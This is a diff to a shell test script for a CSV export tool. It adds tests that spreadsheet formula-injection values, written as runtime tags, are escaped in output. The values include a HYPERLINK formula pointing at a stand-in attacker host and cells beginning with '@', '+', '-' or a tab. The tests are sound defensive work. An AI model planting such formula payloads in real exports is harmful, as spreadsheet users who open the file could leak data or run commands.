@@ -2,8 +2,8 @@
 # SPDX-License-Identifier: MIT
 # accel-csv's files: the header rules (new, empty, matching, mismatching
 # files, and stdout appended to a file), files that end in a partial row,
-# wide-format column changes, daily
-# rotation on a fake clock, size rotation that never splits a report, a
+# formula injection, wide-format column changes, daily rotation on a fake
+# clock, size rotation that never splits a report, a
 # file removed while in use, and command-line errors.
 . "$(dirname "$0")/lib.sh"
 
@@ -109,6 +109,35 @@ ok "partial: the message says where and what" \
 ok "partial: and the file is left as it was" cmp "$F" "$WORK/quote.orig"
 ok "partial: with --rotate, it goes on in the next file" run 0 -o "$F" --rotate 10M <"$S2X"
 ok "partial: whose rows read back" check --input "$S2X" --now $NOW_MS --step 1000 "$WORK/quote.1.csv"
+
+# ---- formula injection -------------------------------------------------------------------------
+# Runtime tags a process chooses, and a --host, that a spreadsheet would run as formulas.
+$PY - "$S2X" >"$WORK/hostile.jsonl" <<'PY'
+import json, sys
+tags = ['=HYPERLINK("http://evil.example/?x","click")', "-5", "@SUM(A1)", "\tcmd"]
+for i, line in enumerate(open(sys.argv[1])):
+    r = json.loads(line)
+    for k, rt in enumerate(r["neuron_runtime_data"]):
+        rt["neuron_runtime_tag"] = tags[(i + k) % len(tags)]
+    print(json.dumps(r, separators=(",", ":")))
+PY
+F=$WORK/formula.csv
+ok "formula: long" run 0 ACCEL_CSV_NOW_STEP=1s -o "$F" <"$WORK/hostile.jsonl"
+ok "formula: the hyperlink is written as text" grep -q "^[^,]*,fx,execution_stats,\"'=HYPERLINK(" "$F"
+ok "formula: a tag that is a number (-5) is not touched" grep -q ",execution_stats,-5,execution_errors_total," "$F"
+ok "formula: every cell reads back, text escaped" check --input "$WORK/hostile.jsonl" --now $NOW_MS --step 1000 "$F"
+"$CSV" --host "+host" <"$WORK/hostile.jsonl" >"$WORK/formula-host.csv"
+ok "formula: --host +host is escaped too" grep -q "^[^,]*,'+host,instance_info," "$WORK/formula-host.csv"
+ok "formula: wide" run 0 --format wide -o "$WORK/formula-w.csv" <"$WORK/hostile.jsonl"
+ok "formula: wide reads back" check --format wide --input "$WORK/hostile.jsonl" --now $NOW_MS --step 1000 \
+	"$WORK/formula-w.csv"
+ok "formula: --no-formula-escape" run 0 --no-formula-escape -o "$WORK/formula-raw.csv" <"$WORK/hostile.jsonl"
+ok "formula: --no-formula-escape writes the cells as they are" \
+	grep -q "^[^,]*,fx,execution_stats,\"=HYPERLINK(" "$WORK/formula-raw.csv"
+ok "formula: which the checker tells apart" sh -c '! "$@" 2>/dev/null' sh \
+	$PY "$HELP/csv_check.py" --host fx --input "$WORK/hostile.jsonl" --now $NOW_MS --step 1000 "$WORK/formula-raw.csv"
+ok "formula: and reads back with --no-formula-escape" check --no-formula-escape --input "$WORK/hostile.jsonl" \
+	--now $NOW_MS --step 1000 "$WORK/formula-raw.csv"
 
 # ---- wide column changes ----------------------------------------------------------
 mkdir -p "$WORK/w"
